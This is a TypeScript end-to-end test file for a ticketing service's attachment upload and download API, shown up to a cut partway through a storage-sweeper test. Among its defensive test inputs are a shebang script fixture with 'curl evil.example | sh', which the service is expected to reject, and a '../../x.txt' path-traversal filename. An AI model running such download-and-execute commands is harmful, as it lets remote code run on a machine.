import { randomUUID } from 'node:crypto';
import { existsSync, readdirSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import { type AddressInfo, createServer, type Server as NetServer, type Socket } from 'node:net';
import { join, resolve } from 'node:path';
import { Readable } from 'node:stream';
import { Role, TicketEventType } from '@ticketing/contracts';
import type supertest from 'supertest';
import { ABANDONED_UPLOAD_AGE_MS, OrphanSweeper } from '../apps/ticket-service/src/modules/attachments/orphan-sweeper';
import {
  attachmentRowCount,
  MiB,
  PNG,
  collect,
  filesUnder,
  logBytes,
  sha256,
  storageIntents,
  until,
} from './support/attachment-files';
import {
  type AttachmentStore,
  OBJECT_STORE_KINDS,
  openStore,
  STORE_KINDS,
  type StoredObject,
} from './support/attachment-stores';
import { feedEvents } from './support/events';
import { auth, createTicket } from './support/factories';
import { startTestApp, type TestApp, type TestUser } from './support/test-app';

/**
 * The attachment flows through HTTP, the same on every store (STORE_KINDS: the local disk, S3 on s3rver, Azure Blob
 * on Azurite): what the store holds is read independently of the service's driver (attachment-stores.ts).
 */

/** Above S3's 5 MiB part and Azure's 4 MiB block, so a file at the limit is stored in three parts or blocks. */
const LIMIT = 12 * MiB;
const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;
const KEY_PATTERN = /^attachments\/[0-9a-f]{2}\/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;

const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(120)]);
const PDF = Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n');

/** A supertest parser that keeps any body as bytes (it would decode text types); it is handed Node's response. */
function binary(res: supertest.Response, callback: (error: Error | null, body: Buffer) => void): void {
  collect(res as unknown as http.IncomingMessage).then(
    (body) => callback(null, body),
    (error: Error) => callback(error, Buffer.alloc(0)),
  );
}

async function listen(t: TestApp): Promise<number> {
  const server = t.app.getHttpServer();
  if (!server.listening) await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return (server.address() as AddressInfo).port;
}

const BOUNDARY = 'attachments-e2e-boundary';
const multipartHead = (filename: string): Buffer =>
  Buffer.from(
    `--${BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\n` +
      'Content-Type: application/octet-stream\r\n\r\n',
  );
const MULTIPART_TAIL = Buffer.from(`\r\n--${BOUNDARY}--\r\n`);

/** A hand-driven upload request, for bodies supertest cannot send (streamed, cut off). */
function rawUpload(port: number, user: TestUser, ticketId: string, contentLength?: number): http.ClientRequest {
  return http.request({
    host: '127.0.0.1',
    port,
    method: 'POST',
    path: `/api/v1/tickets/${ticketId}/attachments`,
    headers: {
      Authorization: `Bearer ${user.token}`,
      'Content-Type': `multipart/form-data; boundary=${BOUNDARY}`,
      ...(contentLength === undefined ? {} : { 'Content-Length': String(contentLength) }),
    },
  });
}

function responseOf(request: http.ClientRequest): Promise<{ status: number; body: any }> {
  return new Promise((resolveResponse, reject) => {
    request.on('error', reject);
    request.on('response', (res) => {
      collect(res).then(
        (body) =>
          resolveResponse({ status: res.statusCode ?? 0, body: body.length > 0 ? JSON.parse(body.toString()) : null }),
        reject,
      );
    });
  });
}

/**
 * A stand-in for clamd that speaks its INSTREAM protocol, so the real ClamdScanner drives it: it answers
 * clean or infected, hangs up, or holds the verdict until released (a scan still running).
 */
class FakeClamd {
  mode: 'clean' | 'infected' | 'hang-up' | 'hold' = 'clean';
  readonly held: Socket[] = [];
  scanned = 0;
  private readonly server: NetServer = createServer((socket) => this.serve(socket));

  async start(): Promise<number> {
    await new Promise<void>((done) => this.server.listen(0, '127.0.0.1', done));
    return (this.server.address() as AddressInfo).port;
  }

  release(): void {
    for (const socket of this.held.splice(0)) socket.end('stream: OK\0');
  }

  async stop(): Promise<void> {
    await new Promise<void>((done) => this.server.close(() => done()));
  }

  private serve(socket: Socket): void {
    let buffer = Buffer.alloc(0);
    let commandRead = false;
    socket.on('error', () => undefined);
    socket.on('data', (data: Buffer) => {
      buffer = Buffer.concat([buffer, data]);
      if (!commandRead) {
        const end = buffer.indexOf(0);
        if (end < 0) return;
        commandRead = true;
        buffer = buffer.subarray(end + 1);
      }
      while (buffer.length >= 4) {
        const length = buffer.readUInt32BE(0);
        if (length === 0) {
          this.answer(socket);
          return;
        }
        if (buffer.length < 4 + length) return;
        buffer = buffer.subarray(4 + length);
      }
    });
  }

  private answer(socket: Socket): void {
    this.scanned += 1;
    switch (this.mode) {
      case 'clean':
        socket.end('stream: OK\0');
        break;
      case 'infected':
        socket.end('stream: Eicar-Test-Signature FOUND\0');
        break;
      case 'hang-up':
        socket.destroy();
        break;
      case 'hold':
        this.held.push(socket);
        break;
    }
  }
}

describe.each(STORE_KINDS)('attachments on the %s store', (kind) => {
  let store: AttachmentStore;

  beforeAll(async () => {
    store = await openStore(kind);
  });

  afterAll(async () => {
    await store?.close();
  });

  /** What the store keeps of an object: object stores keep its type and hash too, the local disk the bytes only. */
  const stored = (size: number, contentType: string, hash: string): StoredObject =>
    kind === 'local' ? { size, contentType: null, sha256: null } : { size, contentType, sha256: hash };

  describe('at a 12 MiB limit', () => {
    let t: TestApp;
    let staging: string;
    let port: number;
    let reporter: TestUser;
    let engineer: TestUser;
    let admin: TestUser;

    beforeAll(async () => {
      t = await startTestApp({ ...store.env, UPLOAD_MAX_FILE_SIZE: String(LIMIT) });
      staging = join(t.config.storage.path, 'incoming');
      port = await listen(t);
      reporter = t.user(Role.END_USER);
      engineer = t.user(Role.DEVOPS_ENGINEER);
      admin = t.user(Role.ADMIN);
    });

    afterAll(async () => {
      await t?.close();
    });

    function upload(
      user: TestUser,
      ticketId: string,
      content: Buffer,
      filename: string,
      options: { commentId?: string; idempotencyKey?: string } = {},
    ): supertest.Test {
      const request = t
        .http()
        .post(`/api/v1/tickets/${ticketId}/attachments`)
        .set(...auth(user));
      if (options.idempotencyKey) request.set('Idempotency-Key', options.idempotencyKey);
      if (options.commentId) request.field('comment_id', options.commentId);
      return request.attach('file', content, filename);
    }

    function download(user: TestUser, attachmentId: string): supertest.Test {
      return t
        .http()
        .get(`/api/v1/attachments/${attachmentId}`)
        .set(...auth(user))
        .buffer(true)
        .parse(binary);
    }

    const rowCount = (ticketId: string): Promise<number> => attachmentRowCount(t, ticketId);

    async function storageKeyOf(attachmentId: string): Promise<string> {
      const [row] = await t.dataSource.query<{ storage_key: string }[]>(
        'SELECT storage_key FROM attachments WHERE id = $1',
        [attachmentId],
      );
      return row.storage_key;
    }

    /** What the service records before an upload's first byte, or in a deletion's transaction. */
    async function recordIntent(storageKey: string, kind: 'UPLOAD' | 'DISCARD', createdAt: Date): Promise<void> {
      await t.dataSource.query(
        'INSERT INTO attachment_storage_intents (storage_key, kind, created_at) VALUES ($1, $2, $3)',
        [storageKey, kind, createdAt],
      );
    }

    async function historyOf(user: TestUser, ticketId: string): Promise<any[]> {
      const res = await t
        .http()
        .get(`/api/v1/tickets/${ticketId}/history`)
        .query({ page_size: 100 })
        .set(...auth(user))
        .expect(200);
      return res.body.items;
    }

    async function internalNote(ticketId: string): Promise<string> {
      const res = await t
        .http()
        .post(`/api/v1/tickets/${ticketId}/comments`)
        .set(...auth(engineer))
        .send({ content: 'Root cause: the CI cache volume, see the attached dump.', is_internal: true })
        .expect(201);
      return res.body.id as string;
    }

    describe('round trip', () => {
      it('uploads, lists and downloads the same bytes with the download headers of spec §4', async () => {
        const ticket = await createTicket(t, reporter);
        const content = logBytes(300_000);
        const created = await upload(reporter, ticket.id, content, 'agent-07 boot.log').expect(201);
        expect(created.body).toEqual({
          id: expect.stringMatching(UUID),
          ticket_id: ticket.id,
          comment_id: null,
          filename: 'agent-07 boot.log',
          content_type: 'text/plain',
          size_bytes: content.length,
          sha256: sha256(content),
          uploaded_by: reporter.id,
          created_at: expect.stringMatching(/Z$/),
          download_url: `/api/v1/attachments/${created.body.id}`,
        });

        const list = await t
          .http()
          .get(`/api/v1/tickets/${ticket.id}/attachments`)
          .set(...auth(reporter))
          .expect(200);
        expect(list.body).toEqual({ items: [created.body], total: 1, page: 1, page_size: 20, pages: 1 });

        const res = await download(reporter, created.body.id).expect(200);
        expect(sha256(res.body)).toBe(created.body.sha256);
        expect(res.headers).toMatchObject({
          'content-type': 'text/plain',
          'content-length': String(content.length),
          'content-disposition': "attachment; filename*=UTF-8''agent-07%20boot.log",
          'x-content-type-options': 'nosniff',
          etag: `"${created.body.sha256}"`,
          'accept-ranges': 'bytes',
        });

        await download(reporter, created.body.id).set('If-None-Match', `"${created.body.sha256}"`).expect(304);
      });

      it('stores the bytes under a random key, never under the client’s name, with its type and hash', async () => {
        const ticket = await createTicket(t, reporter);
        const before = new Set(await store.keys());
        const created = await upload(reporter, ticket.id, PDF, 'quarterly-report.pdf').expect(201);
        const added = (await store.keys()).filter((key) => !before.has(key));
        expect(added).toEqual([expect.stringMatching(KEY_PATTERN)]);
        expect(await store.object(added[0])).toEqual(stored(PDF.length, 'application/pdf', sha256(PDF)));
        // Once answered, nothing is left in the staging area.
        expect(filesUnder(staging)).toEqual([]);
        expect(created.body.content_type).toBe('application/pdf');
      });

      it('keeps a UTF-8 filename and sends it percent-encoded', async () => {
        const ticket = await createTicket(t, reporter);
        const created = await upload(reporter, ticket.id, PDF, 'Prüfbericht (März).pdf').expect(201);
        expect(created.body.filename).toBe('Prüfbericht (März).pdf');
        const res = await download(reporter, created.body.id).expect(200);
        expect(res.headers['content-disposition']).toBe(
          "attachment; filename*=UTF-8''Pr%C3%BCfbericht%20%28M%C3%A4rz%29.pdf",
        );
      });

      it('answers HEAD with the headers only, and 507 when the stored bytes are gone', async () => {
        const ticket = await createTicket(t, reporter);
        const created = await upload(reporter, ticket.id, PDF, 'head.pdf').expect(201);
        const head = await t
          .http()
          .head(`/api/v1/attachments/${created.body.id}`)
          .set(...auth(reporter))
          .expect(200);
        expect(head.headers['content-length']).toBe(String(PDF.length));
        expect(head.headers.etag).toBe(`"${created.body.sha256}"`);
        await store.remove(await storageKeyOf(created.body.id));
        const res = await t
          .http()
          .get(`/api/v1/attachments/${created.body.id}`)
          .set(...auth(reporter))
          .expect(507);
        expect(res.body.error_code).toBe('INSUFFICIENT_STORAGE');
      });

      it('lists oldest first, paginated', async () => {
        const ticket = await createTicket(t, reporter);
        const ids: string[] = [];
        for (const name of ['a.txt', 'b.txt', 'c.txt']) {
          ids.push((await upload(reporter, ticket.id, Buffer.from(name), name).expect(201)).body.id);
        }
        const page = await t
          .http()
          .get(`/api/v1/tickets/${ticket.id}/attachments`)
          .query({ page: 2, page_size: 2 })
          .set(...auth(reporter))
          .expect(200);
        expect(page.body).toMatchObject({ total: 3, page: 2, page_size: 2, pages: 2 });
        expect(page.body.items.map((item: { id: string }) => item.id)).toEqual([ids[2]]);
        const all = await t
          .http()
          .get(`/api/v1/tickets/${ticket.id}/attachments`)
          .set(...auth(reporter))
          .expect(200);
        expect(all.body.items.map((item: { id: string }) => item.id)).toEqual(ids);
      });
    });

    describe('ranges', () => {
      let attachmentId: string;
      const content = logBytes(10_000);

      beforeAll(async () => {
        const ticket = await createTicket(t, reporter);
        attachmentId = (await upload(reporter, ticket.id, content, 'ranges.log').expect(201)).body.id;
      });

      it('answers a byte range with 206 and exactly that slice', async () => {
        const res = await download(reporter, attachmentId).set('Range', 'bytes=1000-1999').expect(206);
        expect(res.headers['content-range']).toBe(`bytes 1000-1999/${content.length}`);
        expect(res.headers['content-length']).toBe('1000');
        expect(res.body.equals(content.subarray(1000, 2000))).toBe(true);
      });

      it('answers open-ended and suffix ranges', async () => {
        const tail = await download(reporter, attachmentId).set('Range', 'bytes=9990-').expect(206);
        expect(tail.body.equals(content.subarray(9990))).toBe(true);
        const suffix = await download(reporter, attachmentId).set('Range', 'bytes=-25').expect(206);
        expect(suffix.headers['content-range']).toBe(
          `bytes ${content.length - 25}-${content.length - 1}/${content.length}`,
        );
        expect(suffix.body.equals(content.subarray(content.length - 25))).toBe(true);
      });

      it('answers 416 with the size for a range past the end', async () => {
        const res = await download(reporter, attachmentId).set('Range', `bytes=${content.length}-`).expect(416);
        expect(res.headers['content-range']).toBe(`bytes */${content.length}`);
      });

      it('sends the whole file when If-Range names another version', async () => {
        const res = await download(reporter, attachmentId)
          .set('Range', 'bytes=0-9')
          .set('If-Range', '"0000"')
          .expect(200);
        expect(res.body.equals(content)).toBe(true);
      });
    });

    describe('a file at the size limit', () => {
      const content = logBytes(LIMIT);
      let keysBefore: string[];
      let attachment: Record<string, any>;

      beforeAll(async () => {
        const ticket = await createTicket(t, reporter);
        keysBefore = await store.keys();
        attachment = (await upload(reporter, ticket.id, content, 'build-agent.log').expect(201)).body;
      });

      it('is stored as one object under a random key, with nothing left in the staging area', async () => {
        expect(attachment).toMatchObject({ size_bytes: LIMIT, sha256: sha256(content), filename: 'build-agent.log' });
        const key = await storageKeyOf(attachment.id);
        expect(key).toMatch(KEY_PATTERN);
        expect(await store.keys()).toEqual([...keysBefore, key].sort());
        expect(await store.object(key)).toEqual(stored(LIMIT, 'text/plain', attachment.sha256));
        expect(filesUnder(staging)).toEqual([]);
      });

      it('downloads with the same SHA-256, length and ETag', async () => {
        const res = await download(reporter, attachment.id).expect(200);
        expect(res.body.length).toBe(LIMIT);
        expect(sha256(res.body)).toBe(attachment.sha256);
        expect(res.headers).toMatchObject({
          'content-length': String(LIMIT),
          'content-type': 'text/plain',
          etag: `"${attachment.sha256}"`,
        });
      });

      it.each([
        ['the first Azure block boundary (4 MiB)', 4 * MiB],
        ['the first S3 part boundary (5 MiB)', 5 * MiB],
      ])('answers a Range across %s with 206 and exactly that slice', async (_boundary, boundary) => {
        const start = boundary - 1000;
        const end = boundary + 999;
        const res = await download(reporter, attachment.id).set('Range', `bytes=${start}-${end}`).expect(206);
        expect(res.headers['content-range']).toBe(`bytes ${start}-${end}/${LIMIT}`);
        expect(res.headers['content-length']).toBe('2000');
        expect(res.body.equals(content.subarray(start, end + 1))).toBe(true);
      });

      it('refuses one byte more with 413 and keeps no object, no staged file and no row', async () => {
        const ticket = await createTicket(t, reporter);
        const before = await store.keys();
        const res = await upload(reporter, ticket.id, logBytes(LIMIT + 1), 'too-big.log').expect(413);
        expect(res.body.error_code).toBe('PAYLOAD_TOO_LARGE');
        expect(await store.keys()).toEqual(before);
        expect(filesUnder(staging)).toEqual([]);
        expect(await rowCount(ticket.id)).toBe(0);
      });
    });

    it('bounds the whole body, not only the file part', async () => {
      const ticket = await createTicket(t, reporter);
      const res = await t
        .http()
        .post(`/api/v1/tickets/${ticket.id}/attachments`)
        .set(...auth(reporter))
        .field('comment_id', 'x'.repeat(LIMIT + 100 * 1024))
        .expect(413);
      expect(res.body.error_code).toBe('PAYLOAD_TOO_LARGE');
    });

    it('keeps nothing from a client that disconnects half-way', async () => {
      const ticket = await createTicket(t, reporter);
      const before = await store.keys();
      const content = logBytes(900 * 1024);
      const request = rawUpload(
        port,
        reporter,
        ticket.id,
        multipartHead('cut.log').length + content.length + MULTIPART_TAIL.length,
      );
      request.on('error', () => undefined);
      request.write(multipartHead('cut.log'));
      request.write(content.subarray(0, content.length / 2));
      // The server has started receiving once its staging file exists.
      await until(() => existsSync(staging) && readdirSync(staging).length > 0, 'the staging file');
      request.destroy();
      await until(() => readdirSync(staging).length === 0, 'the partial file to be removed');
      expect(await store.keys()).toEqual(before);
      expect(await rowCount(ticket.id)).toBe(0);
    });

    describe('file types', () => {
      let ticketId: string;

      beforeAll(async () => {
        ticketId = (await createTicket(t, reporter)).id;
      });

      it.each([
        ['PNG bytes named .pdf', PNG, 'invoice.pdf'],
        ['ELF bytes named .log', ELF, 'app.log'],
        ['ELF bytes named .txt', ELF, 'readme.txt'],
        ['a shebang script named .csv', Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), 'data.csv'],
        ['PDF bytes named .png', PDF, 'chart.png'],
        ['an extension outside the list', Buffer.from('MZ'), 'setup.exe'],
        ['no extension at all', Buffer.from('hello'), 'README'],
      ])('refuses %s with 415 and keeps nothing', async (_case, content, filename) => {
        const before = await store.keys();
        const res = await upload(reporter, ticketId, content, filename).expect(415);
        expect(res.body.error_code).toBe('UNSUPPORTED_FILE_TYPE');
        expect(await store.keys()).toEqual(before);
        expect(await rowCount(ticketId)).toBe(0);
      });

      it('stores ../../x.txt as x.txt under a key of the service, writing nothing outside', async () => {
        const outside = resolve(staging, '../../x.txt');
        const existedBefore = existsSync(outside);
        const before = new Set(await store.keys());
        const created = await upload(reporter, ticketId, Buffer.from('just text'), '../../x.txt').expect(201);
        expect(created.body.filename).toBe('x.txt');
        const added = (await store.keys()).filter((key) => !before.has(key));
        expect(added).toEqual([expect.stringMatching(KEY_PATTERN)]);
        expect(existsSync(outside)).toBe(existedBefore);
        await t
          .http()
          .delete(`/api/v1/attachments/${created.body.id}`)
          .set(...auth(reporter))
          .expect(204);
      });
    });

    describe('validation', () => {
      let ticketId: string;

      beforeAll(async () => {
        ticketId = (await createTicket(t, reporter)).id;
      });

      it('needs a file part', async () => {
        const res = await t
          .http()
          .post(`/api/v1/tickets/${ticketId}/attachments`)
          .set(...auth(reporter))
          .field('comment_id', randomUUID())
          .expect(400);
        expect(res.body.errors).toEqual([{ field: 'file', message: 'is required' }]);
      });

      it('refuses unknown fields, a bad comment_id and a JSON body', async () => {
        const unknown = await t
          .http()
          .post(`/api/v1/tickets/${ticketId}/attachments`)
          .set(...auth(reporter))
          .field('title', 'x')
          .attach('file', Buffer.from('x'), 'x.txt')
          .expect(400);
        expect(unknown.body.errors).toEqual([{ field: 'title', message: 'unknown field' }]);
        const badId = await upload(reporter, ticketId, Buffer.from('x'), 'x.txt', { commentId: 'not-a-uuid' }).expect(
          400,
        );
        expect(badId.body.errors).toEqual([{ field: 'comment_id', message: 'must be a UUID' }]);
        await t
          .http()
          .post(`/api/v1/tickets/${ticketId}/attachments`)
          .set(...auth(reporter))
          .send({ file: 'x' })
          .expect(400);
        expect(await rowCount(ticketId)).toBe(0);
      });

      it('refuses a comment of another ticket and accepts comment_id after the file', async () => {
        const other = await createTicket(t, reporter);
        const note = await t
          .http()
          .post(`/api/v1/tickets/${other.id}/comments`)
          .set(...auth(reporter))
          .send({ content: 'Logs attached below.' })
          .expect(201);
        const foreign = await upload(reporter, ticketId, Buffer.from('x'), 'x.txt', { commentId: note.body.id }).expect(
          400,
        );
        expect(foreign.body.errors).toEqual([{ field: 'comment_id', message: 'no such comment on this ticket' }]);
        const created = await t
          .http()
          .post(`/api/v1/tickets/${other.id}/attachments`)
          .set(...auth(reporter))
          .attach('file', Buffer.from('x'), 'x.txt')
          .field('comment_id', note.body.id)
          .expect(201);
        expect(created.body.comment_id).toBe(note.body.id);
      });

      it('answers 400 for a path id that is not a UUID, 404 for an unknown attachment', async () => {
        await upload(reporter, 'nope', Buffer.from('x'), 'x.txt').expect(400);
        await download(reporter, 'nope').expect(400);
        await download(reporter, randomUUID()).expect(404);
      });
    });

    describe('visibility and permissions', () => {
      it('hides a ticket’s attachments from requesters who cannot see the ticket', async () => {
        const ticket = await createTicket(t, reporter);
        const created = await upload(reporter, ticket.id, Buffer.from('mine'), 'mine.txt').expect(201);
        const stranger = t.user(Role.END_USER);
        const before = await store.keys();
        await upload(stranger, ticket.id, Buffer.from('x'), 'x.txt').expect(404);
        expect(await store.keys()).toEqual(before);
        await t
          .http()
          .get(`/api/v1/tickets/${ticket.id}/attachments`)
          .set(...auth(stranger))
          .expect(404);
        await download(stranger, created.body.id).expect(404);
        await t
          .http()
          .delete(`/api/v1/attachments/${created.body.id}`)
          .set(...auth(stranger))
          .expect(404);
        await download(engineer, created.body.id).expect(200);
      });

      it('never shows a requester the attachments of internal notes: not listed, not downloadable, not in history', async () => {
        const ticket = await createTicket(t, reporter);
        const noteId = await internalNote(ticket.id);
        const hidden = await upload(engineer, ticket.id, Buffer.from('internal dump'), 'dump.txt', {
          commentId: noteId,
        }).expect(201);
        const visible = await upload(engineer, ticket.id, Buffer.from('public'), 'public.txt').expect(201);

        const forRequester = await t
          .http()
          .get(`/api/v1/tickets/${ticket.id}/attachments`)
          .set(...auth(reporter))
          .expect(200);
        expect(forRequester.body.items.map((item: { id: string }) => item.id)).toEqual([visible.body.id]);
        expect(forRequester.body.total).toBe(1);
        await download(reporter, hidden.body.id).expect(404);
        await t
          .http()
          .delete(`/api/v1/attachments/${hidden.body.id}`)
          .set(...auth(reporter))
          .expect(404);
        const requesterHistory = await historyOf(reporter, ticket.id);
        expect(requesterHistory.filter((row) => row.change_type === 'ATTACHMENT_ADDED')).toHaveLength(1);

        const forStaff = await t
          .http()
          .get(`/api/v1/tickets/${ticket.id}/attachments`)
          .set(...auth(engineer))
          .expect(200);
        expect(forStaff.body.items.map((item: { id: string }) => item.id)).toEqual([hidden.body.id, visible.body.id]);
        await download(engineer, hidden.body.id).expect(200);
        const staffHistory = await historyOf(engineer, ticket.id);
        expect(staffHistory.filter((row) => row.change_type === 'ATTACHMENT_ADDED')).toHaveLength(2);

        // A requester cannot attach to the note either: for them it does not exist.
        const res = await upload(reporter, ticket.id, Buffer.from('x'), 'x.txt', { commentId: noteId }).expect(400);
        expect(res.body.errors[0].field).toBe('comment_id');
      });

      it('lets the uploader and admins delete, nobody else', async () => {
        const ticket = await createTicket(t, reporter);
        const first = await upload(reporter, ticket.id, Buffer.from('first'), 'first.txt').expect(201);
        const second = await upload(engineer, ticket.id, Buffer.from('second'), 'second.txt').expect(201);
        const other = t.user(Role.MANAGER);
        const del = (user: TestUser, id: string) =>
          t
            .http()
            .delete(`/api/v1/attachments/${id}`)
            .set(...auth(user));

        expect((await del(other, first.body.id).expect(403)).body.error_code).toBe('FORBIDDEN');
        await del(engineer, first.body.id).expect(403);
        await del(reporter, second.body.id).expect(403);

        const before = await store.keys();
        await del(reporter, first.body.id).expect(204);
        await del(admin, second.body.id).expect(204);
        expect(before.length - (await store.keys()).length).toBe(2);
        await download(reporter, first.body.id).expect(404);
        await del(reporter, first.body.id).expect(404);
        const list = await t
          .http()
          .get(`/api/v1/tickets/${ticket.id}/attachments`)
          .set(...auth(reporter))
          .expect(200);
        expect(list.body.total).toBe(0);
      });

      it('refuses uploads to a closed ticket with 409 TICKET_CLOSED, keeping nothing', async () => {
        const ticket = await createTicket(t, reporter);
        await t
          .http()
          .post(`/api/v1/tickets/${ticket.id}/close`)
          .set(...auth(admin))
          .send({})
          .expect(200);
        const before = await store.keys();
        const res = await upload(engineer, ticket.id, Buffer.from('late'), 'late.txt').expect(409);
        expect(res.body.error_code).toBe('TICKET_CLOSED');
        const withKey = await upload(engineer, ticket.id, Buffer.from('late'), 'late.txt', {
          idempotencyKey: randomUUID(),
        }).expect(409);
        expect(withKey.body.error_code).toBe('TICKET_CLOSED');
        expect(await store.keys()).toEqual(before);
        expect(await rowCount(ticket.id)).toBe(0);
      });
    });

    describe('Idempotency-Key', () => {
      it('replays the first response for the same file and comment, and refuses other content', async () => {
        const ticket = await createTicket(t, reporter);
        const key = randomUUID();
        const content = logBytes(5000);
        const first = await upload(reporter, ticket.id, content, 'retry.log', { idempotencyKey: key }).expect(201);
        const retry = await upload(reporter, ticket.id, content, 'retry.log', { idempotencyKey: key }).expect(201);
        expect(retry.body).toEqual(first.body);
        expect(retry.headers['idempotent-replayed']).toBe('true');
        expect(await rowCount(ticket.id)).toBe(1);

        const otherBytes = await upload(reporter, ticket.id, logBytes(5001), 'retry.log', {
          idempotencyKey: key,
        }).expect(422);
        expect(otherBytes.body.error_code).toBe('IDEMPOTENCY_KEY_REUSED');
        const note = await t
          .http()
          .post(`/api/v1/tickets/${ticket.id}/comments`)
          .set(...auth(reporter))
          .send({ content: 'The same log, for this comment.' })
          .expect(201);
        const otherComment = await upload(reporter, ticket.id, content, 'retry.log', {
          idempotencyKey: key,
          commentId: note.body.id,
        }).expect(422);
        expect(otherComment.body.error_code).toBe('IDEMPOTENCY_KEY_REUSED');
        expect(await rowCount(ticket.id)).toBe(1);
        // The refused retries left no staged or stored bytes behind.
        expect(filesUnder(staging)).toEqual([]);
      });
    });

    describe('history and events', () => {
      it('records ATTACHMENT_ADDED and ATTACHMENT_DELETED with the actor, and emits attachment.added', async () => {
        const ticket = await createTicket(t, reporter);
        const created = await upload(reporter, ticket.id, Buffer.from('evidence'), 'evidence.txt').expect(201);
        const noteId = await internalNote(ticket.id);
        const internal = await upload(engineer, ticket.id, Buffer.from('internal'), 'internal.txt', {
          commentId: noteId,
        }).expect(201);
        await t
          .http()
          .delete(`/api/v1/attachments/${created.body.id}`)
          .set(...auth(reporter))
          .expect(204);

        const rows = (await historyOf(engineer, ticket.id)).filter((row) => row.change_type.startsWith('ATTACHMENT_'));
        expect(rows).toEqual([
          expect.objectContaining({
            change_type: 'ATTACHMENT_ADDED',
            user_id: reporter.id,
            metadata: expect.objectContaining({
              attachment_id: created.body.id,
              filename: 'evidence.txt',
              internal: false,
            }),
          }),
          expect.objectContaining({
            change_type: 'ATTACHMENT_ADDED',
            user_id: engineer.id,
            metadata: expect.objectContaining({ attachment_id: internal.body.id, comment_id: noteId, internal: true }),
          }),
          expect.objectContaining({
            change_type: 'ATTACHMENT_DELETED',
            user_id: reporter.id,
            metadata: expect.objectContaining({ attachment_id: created.body.id }),
          }),
        ]);

        const added = await feedEvents(
          t,
          engineer,
          (event) => event.ticket_id === ticket.id && event.type === TicketEventType.ATTACHMENT_ADDED,
          2,
        );
        expect(added).toEqual([
          expect.objectContaining({
            actor_id: reporter.id,
            internal: false,
            data: expect.objectContaining({ attachment_id: created.body.id, sha256: created.body.sha256 }),
          }),
          expect.objectContaining({
            actor_id: engineer.id,
            internal: true,
            data: expect.objectContaining({ attachment_id: internal.body.id, comment_id: noteId }),
          }),
        ]);
      });
    });

    describe('storage failures and orphans', () => {
      it('answers 507 while the store fails, keeping no bytes and no row; what it could not remove goes with a sweep', async () => {
        const ticket = await createTicket(t, reporter);
        const storedBefore = await upload(
          reporter,
          ticket.id,
          Buffer.from('stored before the outage'),
          'before.txt',
        ).expect(201);
        const keysBefore = await store.keys();
        await store.breakDown();
        try {
          const res = await upload(reporter, ticket.id, logBytes(6 * MiB), 'during-outage.log').expect(507);
          expect(res.body.error_code).toBe('INSUFFICIENT_STORAGE');
          expect(filesUnder(staging)).toEqual([]);
          expect(await rowCount(ticket.id)).toBe(1);
          // The store refused the clean-up too: the key stays recorded for the sweeper.
          expect(await storageIntents(t)).toEqual([{ storage_key: expect.any(String), kind: 'DISCARD' }]);
          const failedDownload = await download(reporter, storedBefore.body.id).expect(507);
          expect(JSON.parse(failedDownload.body.toString()).error_code).toBe('INSUFFICIENT_STORAGE');
        } finally {
          await store.restore();
        }
        // Back: what was stored before is there, nothing of the failed upload.
        expect(await store.keys()).toEqual(keysBefore);
        const res = await download(reporter, storedBefore.body.id).expect(200);
        expect(res.body.toString()).toBe('stored before the outage');
        await expect(t.app.get(OrphanSweeper).sweep()).resolves.toBe(1);
        expect(await storageIntents(t)).toEqual([]);
      });

      it('sweeps only what this installation recorded: abandoned uploads and unfinished deletions', async () => {
        const sweeper = t.app.get(OrphanSweeper);
        const ticket = await createTicket(t, reporter);
        const kept = await upload(reporter, ticket.id, Buffer.from('kept'), 'kept.txt').expect(201);
        const deleted = await upload(reporter, ticket.id, Buffer.from('deleted'), 'deleted.txt').expect(201);
        const keptKey = await storageKeyOf(kept.body.id);
        const deletedKey = await storageKeyOf(deleted.body.id);
        const keysBefore = await store.keys();
        // A deletion whose process died after its transaction, before the bytes went.
        await t.dataSource.query('UPDATE attachments SET deleted_at = now() WHERE id = $1', [deleted.body.id]);
        await recordIntent(deletedKey, 'DISCARD', new Date());
        // An upload whose process died between storing and committing, longer ago than the age bound: its stored
        // object, what the interrupted put left beside it, and its staged file.
        const abandonedKey = `attachments/ff/${randomUUID()}`;
        await recordIntent(abandonedKey, 'UPLOAD', new Date(Date.now() - ABANDONED_UPLOAD_AGE_MS - 60_000));
        for (const key of [abandonedKey, ...store.leftoversOfPut(abandonedKey)]) {
          await store.write(key, Buffer.from(`bytes of ${key}`));
        }
        const abandonedStaged = join(staging, abandonedKey.slice(-36));
        writeFileSync(abandonedStaged, 'staged before the crash');
        // An upload still running: recorded just now, its bytes already stored.
        const runningKey = `attachments/ff/${randomUUID()}`;
        await recordIntent(runningKey, 'UPLOAD', new Date());
        await store.write(runningKey, Buffer.from('running'));
        // What this installation never recorded (another installation's objects in a shared store, anything else):
        // never touched.
        const foreignKeys = [`attachments/ee/${randomUUID()}`, `exports/${randomUUID()}.csv`];
        for (const key of foreignKeys) await store.write(key, Buffer.from(key));
        const foreignStaged = join(staging, randomUUID());
        writeFileSync(foreignStaged, 'another installation’s upload in progress');

        await expect(sweeper.sweep()).resolves.toBe(2);

        expect(await store.keys()).toEqual(
          [...keysBefore.filter((key) => key !== deletedKey), runningKey, ...foreignKeys].sort(),
        );
        expect(keysBefore).toContain(keptKey);
        expect(existsSync(abandonedStaged)).toBe(false);
        expect(existsSync(foreignStaged)).toBe(true);
        expect(await storageIntents(t)).toEqual([{ storage_key: runningKey, kind: 'UPLOAD' }]);
        const res = await download(reporter, kept.body.id).expect(200);
        expect(res.body.toString()).toBe('kept');

        // Once the running upload is older than the bound, it is abandoned too; what was never recorded still stays.
        await expect(sweeper.sweep(new Date(Date.now() + ABANDONED_UPLOAD_AGE_MS + 60_000))).resolves.toBe(1);
        expect(await store.object(runningKey)).toBeNull();
        for (const key of foreignKeys) expect(await store.object(key)).not.toBeNull();
        expect(existsSync(foreignStaged)).toBe(true);
        expect(await storageIntents(t)).toEqual([]);
